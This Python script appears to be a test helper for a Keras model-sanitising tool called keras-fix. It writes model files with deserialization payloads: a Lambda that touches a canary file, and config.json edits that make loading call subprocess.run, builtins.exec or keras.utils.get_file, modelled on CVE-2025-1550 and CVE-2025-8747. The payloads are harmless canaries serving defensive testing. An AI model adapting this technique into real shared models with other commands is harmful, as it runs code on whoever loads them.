"""Saves small real Keras models that touch a canary file if keras-fix ever runs code stored in them.

Lambda canaries: the Lambda touches $KERAS_FIX_CANARY when it runs with that variable set (not at save time, when it is
unset). Import canaries (--import-canary PATH): a real Keras-made .keras whose config.json is then edited to list, as
its first "layer", `subprocess.run` called with ["touch", PATH] (CVE-2025-1550, the shape of keras-fix issue 8);
with --get-file, `keras.utils.get_file` copying this script to PATH instead (CVE-2025-8747: Keras' own public API).

Run with any test env: python make_canary_lambda.py [--lib keras|tf.keras|tf_keras] [--import-canary PATH
[--builtins-exec | --get-file]] OUT...
The format follows each OUT's name: .h5, .keras, or else a SavedModel folder (Keras 2 / tf.keras only). --lib picks
the Keras that saves (default `import keras`; tf.keras for TF 2.1, whose `keras` is the multi-backend package)."""

import json
import os
import sys
import zipfile


def import_keras(lib):
    if lib == "tf.keras":
        from tensorflow import keras
    elif lib == "tf_keras":
        import tf_keras as keras
    else:
        import keras
    return keras


def lambda_model(keras):
    # The lambda's globals are only builtins, so its marshalled bytecode runs wherever Keras rebuilds it.
    touch = lambda x: (__import__("os").environ.get("KERAS_FIX_CANARY")  # noqa: E731
                       and open(__import__("os").environ["KERAS_FIX_CANARY"], "w").close(), x)[1]
    inputs = keras.Input(shape=(3,))
    outputs = keras.layers.Dense(2)(keras.layers.Lambda(touch, name="canary_lambda")(inputs))
    return keras.Model(inputs, outputs)


def plain_model(keras):
    inputs = keras.Input(shape=(3,))
    return keras.Model(inputs, keras.layers.Dense(2, name="dense")(inputs))


def named_function(x):
    return x


def named_lambda_model(keras):
    # tf_keras resolves `module` only for objects deserialized without its class table, such as a Lambda's function.
    inputs = keras.Input(shape=(3,))
    return keras.Model(inputs, keras.layers.Lambda(named_function, name="named")(inputs))


def save(keras, model, path):
    keras2 = keras.__version__.startswith("2.")
    if path.endswith(".h5"):
        model.save(path, save_format="h5") if keras2 else model.save(path)
    elif path.endswith(".keras"):
        model.save(path)
    else:
        model.save(path, save_format="tf")


def point_lambdas_at(config, module, name):
    """Every Lambda's function becomes a reference to module.name, stored as a named function."""
    for layer in config["config"]["layers"]:
        if layer.get("class_name") == "Lambda":
            layer["config"].update(
                function={"module": module, "class_name": "function", "config": name, "registered_name": name},
                function_type="function",
                module=None,
            )
    return config


def get_file_layer(canary):
    """keras.utils.get_file as a "layer" the functional rebuild calls with these keyword arguments: it copies this
    script (a file:// origin, no network) to the canary's path."""
    return {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function",
            "name": "fetch", "inbound_nodes": [{"args": [], "kwargs": {
                "fname": os.path.basename(canary), "origin": "file://" + os.path.abspath(__file__),
                "cache_dir": os.path.dirname(canary), "cache_subdir": "."}}]}


def add_import_canary(path, canary, lib, builtins_exec=False, get_file=False):
    """Rewrites the .keras zip so that loading it imports subprocess (hand-made on purpose). Keras 3: a first "layer"
    that is subprocess.run(["touch", canary]), called while the model is rebuilt; tf_keras: the Lambda's function.
    builtins_exec: the Lambda's function is `builtins.exec` instead (what old Keras reached for non-Keras names)."""
    with zipfile.ZipFile(path) as archive:
        members = [(info, archive.read(info.filename)) for info in archive.infolist()]
    hostile = {"module": "subprocess", "class_name": "run", "config": {}, "registered_name": "run", "name": "run",
               "inbound_nodes": [{"args": [["touch", canary]], "kwargs": {}}]}
    with zipfile.ZipFile(path, "w") as archive:
        for info, data in members:
            if info.filename == "config.json":
                config = json.loads(data.decode("utf-8"))
                if get_file:
                    config["config"]["layers"].append(get_file_layer(canary))
                elif builtins_exec:
                    config = point_lambdas_at(config, "builtins", "exec")
                elif lib == "tf_keras":
                    config = point_lambdas_at(config, "subprocess", "run")
                else:
                    config["config"]["layers"].insert(0, hostile)
                data = json.dumps(config).encode("utf-8")
            archive.writestr(info, data)


def main(argv):
    args = argv[1:]
    lib = None
    canary = None
    builtins_exec = False
    get_file = False
    while args and args[0].startswith("--"):
        if args[0] == "--get-file":
            get_file = True
            args = args[1:]
            continue
        if args[0] == "--builtins-exec":
            builtins_exec = True
            args = args[1:]
            continue
        if args[0] == "--lib":
            lib = args[1]
        elif args[0] == "--import-canary":
            canary = os.path.abspath(args[1])
        else:
            raise SystemExit("unknown option %s" % args[0])
        args = args[2:]
    keras = import_keras(lib)
    if canary:
        model = named_lambda_model(keras) if lib == "tf_keras" or builtins_exec else plain_model(keras)
    else:
        model = lambda_model(keras)
    for path in args:
        save(keras, model, path)
        if canary:
            add_import_canary(path, canary, lib, builtins_exec, get_file)


if __name__ == "__main__":
    main(sys.argv)
